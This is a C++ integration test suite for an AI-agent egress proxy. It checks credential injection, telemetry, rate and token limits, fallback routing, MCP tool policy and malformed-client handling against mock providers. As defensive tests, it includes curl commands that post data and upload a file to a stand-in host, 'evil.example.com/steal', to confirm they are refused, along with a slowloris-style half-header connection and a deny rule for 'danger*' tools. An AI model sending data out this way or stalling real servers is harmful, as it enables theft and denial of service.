// The egress data plane end to end, in process: real clients (curl, Python requests/httpx) talk
// through the explicit listener to mock providers that speak the OpenAI, Anthropic, Gemini and
// MCP wire formats over TLS, with the policy compiled from real manifests.
#include "harness.h"

#include "clrk/api/codec.h"
#include "clrk/api/registry.h"
#include "clrk/egress/config/snapshot.h"
#include "clrk/egress/proxy.h"
#include "clrk/egress/tls/authority.h"
#include "clrk/egress/tls/leaf_cache.h"
#include "clrk/mockprovider/mock_server.h"
#include "clrk/telemetry/attributes.h"
#include "clrk/telemetry/pipeline.h"

#include <boost/asio.hpp>
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <set>
#include <signal.h>
#include <sstream>
#include <sys/socket.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

namespace clrk {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr std::string_view kOpenAiSecret = "sk-injected-openai-SECRET-7f3a";
constexpr std::string_view kAnthropicSecret = "ak-injected-anthropic-SECRET-91bc";
constexpr std::string_view kGeminiSecret = "gk-injected-gemini-SECRET-55d0";

// Collects delivered records in memory.
class MemorySink : public telemetry::Sink {
 public:
  std::string name() const override { return "memory"; }
  Status deliver(std::span<const telemetry::Record> batch) override {
    std::lock_guard lock(mutex_);
    records_.insert(records_.end(), batch.begin(), batch.end());
    return {};
  }
  std::vector<telemetry::Record> records() const {
    std::lock_guard lock(mutex_);
    return records_;
  }

 private:
  mutable std::mutex mutex_;
  std::vector<telemetry::Record> records_;
};

std::string manifests(uint16_t /*unused*/) {
  return fmt::format(R"(
apiVersion: v1
kind: Secret
metadata: {{name: openai-key, namespace: default}}
stringData: {{token: "{}"}}
---
apiVersion: v1
kind: Secret
metadata: {{name: anthropic-key, namespace: default}}
stringData: {{api-key: "{}"}}
---
apiVersion: v1
kind: Secret
metadata: {{name: gemini-key, namespace: default}}
stringData: {{token: "{}"}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressGateway
metadata: {{name: default, namespace: default}}
spec:
  defaultPolicy: deny-all
  listeners:
  - name: https
    protocol: TLS
    tls: {{mode: Terminate}}
  - name: http
    protocol: HTTP
  - name: pass
    protocol: TLS
    port: 9443
    tls: {{mode: Passthrough}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: pass, namespace: default}}
spec:
  parentRefs: [{{name: default, sectionName: pass}}]
  rules:
  - matches: [{{destinationHostnames: [pass.example.com], ports: [{{port: 9443}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: RateLimitPolicy
metadata: {{name: three-per-minute, namespace: default}}
spec: {{requests: 3, window: 1m, scope: PerRoute}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: AIProviderRoute
metadata: {{name: openai, namespace: default}}
spec:
  parentRefs: [{{name: default}}]
  rules:
  - matches: [{{provider: openai, models: ["limited-*"]}}]
    filters:
    - type: ExtensionRef
      extensionRef: {{group: clrk.apoxy.dev, kind: RateLimitPolicy, name: three-per-minute}}
  - matches: [{{provider: openai, models: ["budget-*"]}}]
    filters:
    - type: TokenBudget
      tokenBudget: {{maxTokensPerDay: 20}}
  - matches: [{{provider: openai}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: CredentialInjectionPolicy
metadata: {{name: openai-key, namespace: default}}
spec:
  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: openai}}]
  secretRef: {{name: openai-key}}
  target: Header
  headerName: Authorization
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: Backend
metadata: {{name: anthropic-primary, namespace: default}}
spec:
  schema: {{name: anthropic}}
  upstream: {{host: primary.example.com, port: 443}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: Backend
metadata: {{name: anthropic-direct, namespace: default}}
spec:
  schema: {{name: anthropic}}
  upstream: {{host: api.anthropic.com, port: 443}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: AIProviderRoute
metadata: {{name: anthropic, namespace: default}}
spec:
  parentRefs: [{{name: default}}]
  rules:
  - matches: [{{provider: anthropic, endpoints: [/v1/messages]}}]
    backendRefs:
    - {{group: clrk.apoxy.dev, kind: Backend, name: anthropic-primary}}
    - {{group: clrk.apoxy.dev, kind: Backend, name: anthropic-direct}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: FallbackRoutingPolicy
metadata: {{name: anthropic, namespace: default}}
spec:
  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: anthropic}}]
  ejection: {{maxEjectionTime: 1s}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: CredentialInjectionPolicy
metadata: {{name: anthropic-key, namespace: default}}
spec:
  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: anthropic}}]
  secretRef: {{name: anthropic-key}}
  secretKey: api-key
  target: Header
  headerName: x-api-key
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: AIProviderRoute
metadata: {{name: gemini, namespace: default}}
spec:
  parentRefs: [{{name: default}}]
  rules:
  - matches: [{{provider: google}}]
    filters:
    - type: RequestHeaderModifier
      requestHeaderModifier:
        set: [{{name: x-clrk-route, value: gemini}}]
        remove: [x-agent-debug]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: CredentialInjectionPolicy
metadata: {{name: gemini-key, namespace: default}}
spec:
  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: gemini}}]
  secretRef: {{name: gemini-key}}
  target: Header
  headerName: x-goog-api-key
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: MCPRoute
metadata: {{name: tools, namespace: default}}
spec:
  parentRefs: [{{name: default}}]
  hostnames: [mcp.internal]
  rules:
  - filters:
    - type: ToolPolicy
      toolPolicy: {{deniedTools: ["danger*"], maxCallsPerExecution: 2}}
)",
                     kOpenAiSecret, kAnthropicSecret, kGeminiSecret);
}

constexpr std::string_view kAllowAllManifest = R"(
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressGateway
metadata: {name: open, namespace: default}
spec:
  defaultPolicy: allow-all
  listeners:
  - name: https
    protocol: TLS
    tls: {mode: Terminate}
  - name: http
    protocol: HTTP
)";

std::shared_ptr<const egress::config::Snapshot> compileManifests(std::string_view text,
                                                                 std::vector<std::string>* bad) {
  auto documents = api::decodeManifests(text, "test.yaml");
  EXPECT_TRUE(documents.ok()) << documents.status().toString();
  std::vector<json> objects;
  for (auto& document : documents.value()) {
    Status status = api::checkDocument(api::Registry::builtin(), document);
    EXPECT_TRUE(status.ok()) << status.toString();
    objects.push_back(document.object);
  }
  auto result = egress::config::compile(objects, 1);
  for (const auto& status : result.statuses) {
    if (!status.accepted) {
      bad->push_back(fmt::format("{} {}: {}", status.kind, status.name, status.message));
    }
  }
  return result.snapshot;
}

class EgressTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ =
        new fs::path(fs::temp_directory_path() / ("clrk-egress-test-" + std::to_string(getpid())));
    fs::create_directories(*dir_);
    // The upstream CA: signs the mock providers' certificates; the proxy trusts it.
    auto upstream_ca =
        egress::tls::CertificateAuthority::generate("upstream test CA", std::chrono::hours(24));
    ASSERT_TRUE(upstream_ca.ok());
    upstream_ca_ =
        new std::shared_ptr<const egress::tls::CertificateAuthority>(upstream_ca.value());
    mocks_ = new std::map<std::string, std::unique_ptr<mockprovider::MockServer>>();
    for (const char* host :
         {"api.openai.com", "api.anthropic.com", "generativelanguage.googleapis.com",
          "primary.example.com", "pass.example.com"}) {
      auto leaf = egress::tls::mintLeafPem(**upstream_ca_, host);
      ASSERT_TRUE(leaf.ok());
      mockprovider::MockOptions options;
      options.tls_cert_pem = leaf->cert_pem;
      options.tls_key_pem = leaf->key_pem;
      options.name = host;
      if (std::string_view(host) == "primary.example.com") options.fail_status = 503;
      auto mock = mockprovider::MockServer::start(options);
      ASSERT_TRUE(mock.ok()) << mock.status().toString();
      (*mocks_)[host] = std::move(mock).value();
    }
    mockprovider::MockOptions mcp_options;
    mcp_options.name = "mcp";
    auto mcp = mockprovider::MockServer::start(mcp_options);
    ASSERT_TRUE(mcp.ok());
    (*mocks_)["mcp.internal"] = std::move(mcp).value();
  }
  static void TearDownTestSuite() {
    delete mocks_;
    delete upstream_ca_;
    std::error_code ec;
    fs::remove_all(*dir_, ec);
    delete dir_;
  }

  void SetUp() override {
    std::vector<std::string> bad;
    governed_.swap(compileManifests(manifests(0), &bad));
    EXPECT_THAT(bad, ::testing::IsEmpty());
    open_.swap(compileManifests(kAllowAllManifest, &bad));
    sink_ = std::make_shared<MemorySink>();
    telemetry::PipelineOptions pipeline_options;
    pipeline_options.spool_dir = *dir_ / ("spool-" + std::to_string(counter_++));
    pipeline_options.fsync = false;
    pipeline_options.sinks.push_back(sink_);
    auto pipeline = telemetry::Pipeline::start(pipeline_options);
    ASSERT_TRUE(pipeline.ok()) << pipeline.status().toString();
    pipeline_ = std::move(pipeline).value();

    egress::ProxyOptions options;
    options.explicit_listen = "127.0.0.1:0";
    options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
    options.header_timeout_ms = 1500;
    options.max_header_bytes = 16 * 1024;
    for (const auto& [host, mock] : *mocks_) {
      uint16_t port = host == "mcp.internal" ? 80 : host == "pass.example.com" ? 9443 : 443;
      options.upstream_overrides.emplace_back(fmt::format("{}:{}", host, port),
                                              fmt::format("127.0.0.1:{}", mock->port()));
    }
    // An upstream with a certificate for another name, and one that is down.
    options.upstream_overrides.emplace_back(
        "badcert.example.com:443", fmt::format("127.0.0.1:{}", mock("api.openai.com").port()));
    options.upstream_overrides.emplace_back("down.example.com:443",
                                            fmt::format("127.0.0.1:{}", closedPort()));
    auto proxy = egress::Proxy::start(options, governed_, identities_, pipeline_.get());
    ASSERT_TRUE(proxy.ok()) << proxy.status().toString();
    proxy_ = std::move(proxy).value();
    auto open = egress::Proxy::start(options, open_, identities_, pipeline_.get());
    ASSERT_TRUE(open.ok()) << open.status().toString();
    open_proxy_ = std::move(open).value();
    ca_file_ = (*dir_ / "proxy-ca.pem").string();
    std::ofstream(ca_file_) << proxy_->caCertificatePem();
    open_ca_file_ = (*dir_ / "open-ca.pem").string();
    std::ofstream(open_ca_file_) << open_proxy_->caCertificatePem();
    upstream_ca_file_ = (*dir_ / "upstream-ca.pem").string();
    std::ofstream(upstream_ca_file_) << (*upstream_ca_)->certPem();
    for (auto& [host, mock] : *mocks_) mock->clearRequests();
  }

  void TearDown() override {
    if (proxy_) proxy_->stop();
    if (open_proxy_) open_proxy_->stop();
    pipeline_.reset();
  }

  static mockprovider::MockServer& mock(const std::string& host) { return *mocks_->at(host); }

  static uint16_t closedPort() {
    boost::asio::io_context io;
    boost::asio::ip::tcp::acceptor acceptor(
        io, boost::asio::ip::tcp::endpoint(boost::asio::ip::make_address("127.0.0.1"), 0));
    return acceptor.local_endpoint().port();  // closed again when acceptor goes
  }

  std::string proxyUrl() const {
    return fmt::format("http://127.0.0.1:{}", proxy_->explicitPort());
  }
  std::string openProxyUrl() const {
    return fmt::format("http://127.0.0.1:{}", open_proxy_->explicitPort());
  }

  // curl through the governed proxy; prints the body then "\nHTTP <status>".
  testing::CommandResult curl(const std::string& args, bool open = false) const {
    return testing::runCommand(
        fmt::format("curl -sS --max-time 20 -x {} --cacert {} -w '\\nHTTP %{{http_code}}' {}",
                    open ? openProxyUrl() : proxyUrl(), open ? open_ca_file_ : ca_file_, args));
  }

  std::vector<telemetry::Record> records() {
    pipeline_->flush(std::chrono::seconds(5));
    return sink_->records();
  }

  // The newest record whose name contains `name_part`, waiting up to 5 s for it (L4 records
  // are emitted when both directions of a tunnel have closed).
  std::optional<telemetry::Record> recordFor(std::string_view name_part) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(5);
    for (;;) {
      std::optional<telemetry::Record> found;
      for (auto& record : records()) {
        if (record.name.find(name_part) != std::string::npos) found = record;
      }
      if (found || std::chrono::steady_clock::now() > deadline) return found;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  }

  static std::string str(const telemetry::Record& record, std::string_view key) {
    const std::string* value = telemetry::findString(record, key);
    return value ? *value : "";
  }
  static int64_t num(const telemetry::Record& record, std::string_view key) {
    return telemetry::findInt(record, key).value_or(-1);
  }

  // A proxy over the open snapshot with `options`, its CA certificate written to `ca_file` in the
  // test directory (*ca_path names it). Null, with a test failure, when it did not start.
  std::unique_ptr<egress::Proxy> startOpenProxy(const egress::ProxyOptions& options,
                                                const std::string& ca_file, std::string* ca_path) {
    auto started = egress::Proxy::start(options, open_, identities_, pipeline_.get());
    EXPECT_TRUE(started.ok()) << started.status().toString();
    if (!started.ok()) return nullptr;
    *ca_path = (*dir_ / ca_file).string();
    std::ofstream(*ca_path) << started.value()->caCertificatePem();
    return std::move(started).value();
  }

  static fs::path* dir_;
  static std::shared_ptr<const egress::tls::CertificateAuthority>* upstream_ca_;
  static std::map<std::string, std::unique_ptr<mockprovider::MockServer>>* mocks_;
  static int counter_;

  egress::config::SnapshotHolder governed_;
  egress::config::SnapshotHolder open_;
  egress::IdentityMap identities_;
  std::shared_ptr<MemorySink> sink_;
  std::unique_ptr<telemetry::Pipeline> pipeline_;
  std::unique_ptr<egress::Proxy> proxy_;
  std::unique_ptr<egress::Proxy> open_proxy_;
  std::string ca_file_;
  std::string open_ca_file_;
  std::string upstream_ca_file_;
};

fs::path* EgressTest::dir_ = nullptr;
std::shared_ptr<const egress::tls::CertificateAuthority>* EgressTest::upstream_ca_ = nullptr;
std::map<std::string, std::unique_ptr<mockprovider::MockServer>>* EgressTest::mocks_ = nullptr;
int EgressTest::counter_ = 0;

const char* kChatBody =
    R"({"model":"gpt-4o-mini","messages":[{"role":"user","content":"one two three"}]})";

TEST_F(EgressTest, OpenAiCallIsAllowedInjectedAndRecorded) {
  auto result =
      curl(fmt::format("https://api.openai.com/v1/chat/completions "
                       "-H 'Authorization: Bearer sk-agent-own-key' "
                       "-H 'Content-Type: application/json' -d '{}'",
                       kChatBody));
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
  EXPECT_THAT(result.output, HasSubstr("chat.completion"));
  // The upstream saw the Secret's key, never the agent's.
  auto requests = mock("api.openai.com").requests();
  ASSERT_EQ(requests.size(), 1u);
  EXPECT_EQ(requests[0].api_key, kOpenAiSecret);
  EXPECT_EQ(requests[0].header("Authorization"), fmt::format("Bearer {}", kOpenAiSecret));
  for (const auto& [name, value] : requests[0].headers) {
    EXPECT_THAT(value, Not(HasSubstr("sk-agent-own-key"))) << name;
  }
  auto record = recordFor("api.openai.com /v1/chat/completions");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kGenAiSystem), "openai");
  EXPECT_EQ(str(*record, telemetry::attr::kGenAiRequestModel), "gpt-4o-mini");
  EXPECT_EQ(str(*record, telemetry::attr::kGenAiResponseModel), "gpt-4o-mini");
  EXPECT_EQ(num(*record, telemetry::attr::kHttpResponseStatusCode), 200);
  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 3);
  EXPECT_GT(num(*record, telemetry::attr::kGenAiUsageOutputTokens), 0);
  EXPECT_EQ(str(*record, telemetry::attr::kClrkDecision), "allow");
  EXPECT_EQ(str(*record, telemetry::attr::kClrkCredentialPolicy), "default/openai-key");
  EXPECT_THAT(str(*record, telemetry::attr::kClrkRule),
              HasSubstr("AIProviderRoute default/openai"));
  EXPECT_TRUE(telemetry::find(*record, telemetry::attr::kClrkTtfbMs) != nullptr);
  // The Secret never appears in any record.
  for (const auto& any : records()) {
    EXPECT_THAT(telemetry::toJson(any), Not(HasSubstr(kOpenAiSecret)));
  }
}

TEST_F(EgressTest, StreamingUsageIsCountedFromSse) {
  auto result = curl(
      "-N https://api.openai.com/v1/chat/completions -H 'Content-Type: application/json' "
      "-d '{\"model\":\"gpt-4o\",\"stream\":true,\"stream_options\":{\"include_usage\":true},"
      "\"messages\":[{\"role\":\"user\",\"content\":\"alpha beta\"}]}'");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("data: [DONE]"));
  auto record = recordFor("api.openai.com /v1/chat/completions");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 2);
  EXPECT_GT(num(*record, telemetry::attr::kClrkUsageTotalTokens), 2);
}

TEST_F(EgressTest, DeniedHostGetsJsonNamingTheRule) {
  auto result = curl("https://evil.example.com/steal -d 'x=1'");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("HTTP 403"));
  EXPECT_THAT(result.output, HasSubstr("clrk_egress_denied"));
  EXPECT_THAT(result.output, HasSubstr("deny-all"));
  auto record = recordFor("evil.example.com");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kClrkDecision), "deny");
  // A refused upload that asked for "Expect: 100-continue" is answered before its body is asked
  // for (no 100 Continue), and still gets the whole refusal.
  fs::path upload = *dir_ / "denied-upload.bin";
  std::ofstream(upload, std::ios::binary) << std::string(2 * 1024 * 1024, 'd');
  auto refused = curl(
      "-v --http1.1 -H 'Expect: 100-continue' -H 'Content-Type: "
      "application/octet-stream' --data-binary @" +
      upload.string() + " https://evil.example.com/upload");
  ASSERT_EQ(refused.exit_code, 0) << refused.output;
  EXPECT_THAT(refused.output, HasSubstr("HTTP 403"));
  EXPECT_THAT(refused.output, HasSubstr("deny-all"));
  EXPECT_THAT(refused.output, Not(HasSubstr("100 Continue")));
  // Plain HTTP is refused the same way.
  auto plain = curl("http://evil.example.com/x");
  EXPECT_THAT(plain.output, HasSubstr("HTTP 403"));
  EXPECT_THAT(plain.output, HasSubstr("deny-all"));
}

TEST_F(EgressTest, RateLimitAnswers429InProviderShapeWithRetryAfter) {
  std::string request =
      "-D - https://api.openai.com/v1/chat/completions "
      "-H 'Content-Type: application/json' "
      "-d '{\"model\":\"limited-1\",\"messages\":[{\"role\":\"user\","
      "\"content\":\"hi\"}]}'";
  for (int i = 0; i < 3; ++i) {
    auto ok = curl(request);
    EXPECT_THAT(ok.output, HasSubstr("HTTP 200")) << i;
  }
  auto limited = curl(request);
  EXPECT_THAT(limited.output, HasSubstr("HTTP 429"));
  EXPECT_THAT(limited.output, HasSubstr("retry-after:"));
  EXPECT_THAT(limited.output, HasSubstr("\"type\":\"rate_limit_exceeded\""));  // OpenAI's shape
  EXPECT_EQ(mock("api.openai.com").requests().size(), 3u);
}

TEST_F(EgressTest, TokenBudgetRefusesTheRequestAfterTheOneThatCrossedIt) {
  // Each call uses 10 input tokens plus the answer: the first crosses the 20-token budget and
  // still completes; the next one is refused.
  std::string request =
      "https://api.openai.com/v1/chat/completions "
      "-H 'Content-Type: application/json' "
      "-d '{\"model\":\"budget-1\",\"messages\":[{\"role\":\"user\","
      "\"content\":\"a b c d e f g h i j\"}]}'";
  auto first = curl(request);
  EXPECT_THAT(first.output, HasSubstr("HTTP 200"));
  auto second = curl(request);
  EXPECT_THAT(second.output, HasSubstr("HTTP 429"));
  EXPECT_THAT(second.output, HasSubstr("budget"));
}

TEST_F(EgressTest, FallbackMovesToTheNextBackendAndInjectsPerAttempt) {
  auto result = curl(
      "https://api.anthropic.com/v1/messages -H 'anthropic-version: 2023-06-01' "
      "-H 'x-api-key: agent-key' -H 'Content-Type: application/json' "
      "-d '{\"model\":\"claude-3-5-haiku\",\"max_tokens\":64,\"messages\":[{\"role\":\"user\","
      "\"content\":\"hello there\"}]}'");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
  EXPECT_THAT(result.output, HasSubstr("api.anthropic.com"));  // answered by the second backend
  ASSERT_EQ(mock("primary.example.com").requests().size(), 1u);
  EXPECT_EQ(mock("primary.example.com").requests()[0].api_key, kAnthropicSecret);
  ASSERT_EQ(mock("api.anthropic.com").requests().size(), 1u);
  EXPECT_EQ(mock("api.anthropic.com").requests()[0].api_key, kAnthropicSecret);
  auto record = recordFor("/v1/messages");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kClrkBackend), "default/anthropic-direct");
  EXPECT_EQ(num(*record, telemetry::attr::kClrkFallbackCount), 1);
  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 2);

  // The failed primary is ejected: the next request goes straight to the second backend ...
  std::string request =
      "https://api.anthropic.com/v1/messages -H 'anthropic-version: 2023-06-01' "
      "-H 'x-api-key: agent-key' -H 'Content-Type: application/json' "
      "-d '{\"model\":\"claude-3-5-haiku\",\"max_tokens\":8,\"messages\":[{\"role\":\"user\","
      "\"content\":\"again\"}]}'";
  result = curl(request);
  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
  EXPECT_EQ(mock("primary.example.com").requests().size(), 1u);
  EXPECT_EQ(mock("api.anthropic.com").requests().size(), 2u);
  // ... until its ejection (maxEjectionTime 1s) ends and it is tried first again.
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));
  result = curl(request);
  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
  EXPECT_EQ(mock("primary.example.com").requests().size(), 2u);
  EXPECT_EQ(mock("api.anthropic.com").requests().size(), 3u);
}

TEST_F(EgressTest, AnthropicStreamUsageFromPythonHttpx) {
  std::string script = fmt::format(R"(
import httpx, json
with httpx.Client(proxies="{}", verify="{}") as c:
    with c.stream("POST", "https://api.anthropic.com/v1/messages",
                  headers={{"anthropic-version": "2023-06-01", "x-api-key": "mine"}},
                  json={{"model": "claude-x", "max_tokens": 50, "stream": True,
                        "messages": [{{"role": "user", "content": "four words right here"}}]}}) as r:
        events = [line for line in r.iter_lines() if line.startswith("event:")]
        print(r.status_code, len(events), events[-1])
)",
                                   proxyUrl(), ca_file_);
  std::ofstream(*dir_ / "stream.py") << script;
  auto result = testing::runCommand("/usr/bin/python3 " + (*dir_ / "stream.py").string());
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("200"));
  EXPECT_THAT(result.output, HasSubstr("event: message_stop"));
  auto record = recordFor("/v1/messages");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 4);
  EXPECT_GT(num(*record, telemetry::attr::kGenAiUsageOutputTokens), 0);
}

TEST_F(EgressTest, GeminiWithPythonRequestsGetsKeyAndHeaderRewrite) {
  std::string script = fmt::format(R"(
import requests
r = requests.post(
    "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:generateContent",
    proxies={{"https": "{}"}}, verify="{}",
    headers={{"x-goog-api-key": "agent-key", "x-agent-debug": "1"}},
    json={{"contents": [{{"parts": [{{"text": "count these five words"}}]}}]}})
print(r.status_code, r.json()["usageMetadata"]["promptTokenCount"])
)",
                                   proxyUrl(), ca_file_);
  std::ofstream(*dir_ / "gemini.py") << script;
  auto result = testing::runCommand("/usr/bin/python3 " + (*dir_ / "gemini.py").string());
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("200 4"));
  auto requests = mock("generativelanguage.googleapis.com").requests();
  ASSERT_EQ(requests.size(), 1u);
  EXPECT_EQ(requests[0].api_key, kGeminiSecret);
  EXPECT_EQ(requests[0].header("x-clrk-route"), "gemini");
  EXPECT_EQ(requests[0].header("x-agent-debug"), "");
  auto record = recordFor("generateContent");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kGenAiRequestModel), "gemini-2.0-flash");
}

TEST_F(EgressTest, McpToolCallIsRecordedAndDeniedToolRefused) {
  // A Streamable HTTP session with Python requests through the proxy: initialize, then calls.
  std::string script = fmt::format(R"(
import requests, json
proxies = {{"http": "{}"}}
url = "http://mcp.internal/mcp"
accept = {{"Accept": "application/json, text/event-stream"}}
def rpc(id, method, params, session=None):
    headers = dict(accept)
    if session: headers["Mcp-Session-Id"] = session
    return requests.post(url, proxies=proxies, headers=headers,
                         json={{"jsonrpc": "2.0", "id": id, "method": method, "params": params}})
init = rpc(1, "initialize", {{"protocolVersion": "2025-06-18", "capabilities": {{}},
                             "clientInfo": {{"name": "t", "version": "1"}}}})
session = init.headers.get("Mcp-Session-Id")
ok = rpc(2, "tools/call", {{"name": "add", "arguments": {{"a": 2, "b": 3}}}}, session)
denied = rpc(3, "tools/call", {{"name": "danger_rm", "arguments": {{}}}}, session)
ok2 = rpc(4, "tools/call", {{"name": "add", "arguments": {{"a": 1, "b": 1}}}}, session)
over = rpc(5, "tools/call", {{"name": "add", "arguments": {{"a": 1, "b": 2}}}}, session)
listed = rpc(6, "tools/list", {{}}, session)
print(init.status_code, ok.status_code, denied.status_code, denied.text)
print("cap", ok2.status_code, over.status_code, listed.status_code, over.text)
)",
                                   proxyUrl());
  std::ofstream(*dir_ / "mcp.py") << script;
  auto result = testing::runCommand("/usr/bin/python3 " + (*dir_ / "mcp.py").string());
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("200 200 403"));
  EXPECT_THAT(result.output, HasSubstr("danger_rm"));
  // maxCallsPerExecution 2: the denied call does not count, the third allowed one is refused,
  // and other methods are not limited.
  EXPECT_THAT(result.output, HasSubstr("cap 200 429 200"));
  EXPECT_THAT(result.output, HasSubstr("mcp_call_limit"));
  std::map<int64_t, int> add_calls;  // by status
  for (const auto& record : records()) {
    if (str(record, telemetry::attr::kMcpMethodName) == "tools/call" &&
        str(record, telemetry::attr::kGenAiToolName) == "add") {
      ++add_calls[num(record, telemetry::attr::kHttpResponseStatusCode)];
    }
  }
  EXPECT_EQ(add_calls[200], 2);
  EXPECT_EQ(add_calls[429], 1);
}

TEST_F(EgressTest, PassthroughKeepsTheUpstreamCertificateAndIsRecordedAtL4) {
  // No MITM: the client verifies the upstream's own certificate.
  auto result = testing::runCommand(
      fmt::format("curl -sS --max-time 10 -x {} --cacert {} -w '\\nHTTP %{{http_code}}' "
                  "https://pass.example.com:9443/v1/models -H 'Authorization: Bearer k'",
                  proxyUrl(), upstream_ca_file_));
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
  auto record = recordFor("tcp pass.example.com:9443");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kClrkLayer), "l4");
  EXPECT_EQ(str(*record, telemetry::attr::kTlsServerName), "pass.example.com");
  EXPECT_GT(num(*record, telemetry::attr::kClrkBytesReceived), 0);
}

TEST_F(EgressTest, UpstreamDownAndBadCertificateAre502WithReasons) {
  auto down = curl("https://down.example.com/", true);
  EXPECT_THAT(down.output, HasSubstr("HTTP 502"));
  EXPECT_THAT(down.output, HasSubstr("cannot connect"));
  auto bad = curl("https://badcert.example.com/", true);
  EXPECT_THAT(bad.output, HasSubstr("HTTP 502"));
  EXPECT_THAT(bad.output, HasSubstr("certificate"));
  auto record = recordFor("badcert.example.com");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(num(*record, telemetry::attr::kHttpResponseStatusCode), 502);
}

TEST_F(EgressTest, MalformedOversizedAndSlowClientsAreHandled) {
  namespace net = boost::asio;
  net::io_context io;
  auto send = [&](const std::string& bytes, bool wait_close) {
    net::ip::tcp::socket socket(io);
    socket.connect({net::ip::make_address("127.0.0.1"), open_proxy_->explicitPort()});
    net::write(socket, net::buffer(bytes));
    std::string reply;
    boost::system::error_code ec;
    std::array<char, 4096> buffer;
    for (;;) {
      size_t n = socket.read_some(net::buffer(buffer), ec);
      reply.append(buffer.data(), n);
      if (ec || !wait_close) break;
    }
    return reply;
  };
  EXPECT_THAT(send("GARBAGE\r\n\r\n", true), HasSubstr("400"));
  EXPECT_THAT(send("GET http://x.example/ HTTP/1.1\r\nHost: x\r\nX-Big: " +
                       std::string(64 * 1024, 'a') + "\r\n\r\n",
                   true),
              HasSubstr("431"));
  // Slowloris: half a header, then silence; the proxy closes within the header timeout.
  auto started = std::chrono::steady_clock::now();
  std::string reply = send("CONNECT api.openai.com:443 HTTP/1.1\r\nHost: a", true);
  auto waited = std::chrono::steady_clock::now() - started;
  EXPECT_LT(waited, std::chrono::seconds(10));
  // The proxy still serves others afterwards.
  auto after = curl("https://api.openai.com/v1/models -H 'Authorization: Bearer x'", true);
  EXPECT_THAT(after.output, HasSubstr("HTTP 200"));
}

TEST_F(EgressTest, LargeUploadAndKeepAliveReuseUpstream) {
  // A 3 MiB non-JSON body streams through (not buffered) to an allowed host.
  fs::path big = *dir_ / "big.bin";
  {
    std::ofstream out(big, std::ios::binary);
    std::string block(1024 * 1024, 'z');
    for (int i = 0; i < 3; ++i) out << block;
  }
  auto result = curl(fmt::format("https://api.openai.com/v1/files -H 'Authorization: Bearer x' "
                                 "-H 'Content-Type: application/octet-stream' "
                                 "--data-binary @{} https://api.openai.com/v1/models "
                                 "-H 'Authorization: Bearer x'",
                                 big.string()),
                     true);
  ASSERT_EQ(result.exit_code, 0) << result.output;
  auto requests = mock("api.openai.com").requests();
  ASSERT_GE(requests.size(), 1u);
  EXPECT_EQ(requests[0].target, "/v1/files");
  EXPECT_EQ(open_proxy_->stats().upstream_connections_reused, 1u);
}

TEST_F(EgressTest, Http2StreamsGoThroughTheSameFilters) {
  // curl negotiates h2 by ALPN inside the CONNECT tunnel; the stream is governed exactly like
  // an HTTP/1.1 request (injection, telemetry), and the record names the protocol.
  std::string request = fmt::format(
      "https://api.openai.com/v1/chat/completions -H 'Authorization: Bearer sk-agent-own-key' "
      "-H 'Content-Type: application/json' -d '{}' "
